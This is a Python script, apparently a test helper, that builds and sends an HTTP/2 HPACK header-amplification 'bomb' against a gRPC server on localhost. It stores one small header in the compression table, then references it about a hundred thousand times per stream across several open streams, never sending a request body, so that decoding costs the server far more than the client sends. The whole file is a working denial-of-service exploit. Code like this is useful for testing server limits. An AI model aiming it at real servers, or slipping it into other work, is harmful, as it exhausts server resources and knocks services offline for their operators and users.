"""A client of HTTP/2 that breaks no rule of it, and costs a server of gRPC a hundred times what it
sends: one small header, and a byte for each of thousands of references to it, before the server's
bounds on headers are acknowledged, which it never does.
"""

import asyncio
import struct
from contextlib import suppress

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _CONTINUATION = 1, 4, 9
_END_HEADERS = 4
_FRAME_MAX = 16_000


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _block(path: bytes, references: int, *, first: bool) -> bytes:
    asked = b"\x83\x86\x44" + bytes([len(path)]) + path
    asked += _literal(b":authority", b"a") + _literal(b"te", b"trailers")
    asked += _literal(b"content-type", b"application/grpc")
    # The first block puts "foo: b" into the table, where it is number 62.
    return asked + (b"\x40\x03foo\x01b" if first else b"") + b"\xbe" * references


def bomb(path: str, *, streams: int, references: int) -> bytes:
    """All that one connection sends. Its calls stay open: no request comes, and no end."""
    sent = _PREFACE + _frame(_SETTINGS, 0, 0, b"")
    for call in range(streams):
        block = _block(path.encode(), references, first=call == 0)
        pieces = [block[at : at + _FRAME_MAX] for at in range(0, len(block), _FRAME_MAX)]
        for number, piece in enumerate(pieces):
            kind = _CONTINUATION if number else _HEADERS
            flags = _END_HEADERS if number == len(pieces) - 1 else 0
            sent += _frame(kind, flags, 1 + 2 * call, piece)
    return sent


async def throw(port: int, path: str, *, streams: int = 4, references: int = 100_000) -> None:
    """Throw it, and wait until the server has ended the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with suppress(OSError):
        writer.write(bomb(path, streams=streams, references=references))
        await writer.drain()
        while await reader.read(65_536):
            pass
    writer.close()
    with suppress(OSError):
        await writer.wait_closed()
